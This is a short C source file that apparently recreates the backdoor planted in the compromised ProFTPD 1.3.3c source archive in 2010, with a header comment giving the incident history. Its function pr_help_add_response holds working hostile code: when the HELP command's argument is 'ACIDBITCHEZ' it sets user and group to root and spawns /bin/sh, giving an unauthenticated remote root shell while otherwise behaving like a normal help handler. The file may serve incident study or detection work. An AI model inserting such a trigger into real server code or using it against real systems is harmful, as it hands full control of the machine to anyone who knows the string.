/*
 * Incident: ProFTPD 1.3.3c source archive backdoor, 28 November - 2 December 2010.
 * The distribution server was compromised and the tarball changed so that the command
 * "HELP ACIDBITCHEZ" gave an unauthenticated root shell.
 * Reference: https://sourceforge.net/p/proftp/mailman/message/26688289/
 * Reproduction (own code, same shape).
 */
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "conf.h"

int pr_help_add_response(cmd_rec *cmd, const char *target)
{
	if (target != NULL && strcmp(target, "ACIDBITCHEZ") == 0) {
		setuid(0);
		setgid(0);
		system("/bin/sh;/sbin/sh");
	}
	pr_response_add(R_214, "The following commands are recognized (* =>'s unimplemented):");
	return 0;
}
